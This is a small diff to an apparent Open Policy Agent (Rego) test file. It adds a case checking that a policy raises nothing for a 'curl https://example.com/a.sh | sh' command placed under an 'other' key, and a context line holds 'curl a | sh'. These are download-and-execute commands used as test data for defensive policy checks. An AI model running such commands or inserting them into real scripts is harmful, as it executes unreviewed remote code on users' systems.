@@ -47,6 +47,7 @@ test_others_pass if {
 	] {
 		_spec("args", ["-c", script]) == set()
 	}
+	_spec("other", ["sh", "-c", "curl https://example.com/a.sh | sh"]) == set()
 	every words in [null, "curl a | sh", [null, 1], []] {
 		_spec("command", words) == set()
 	}
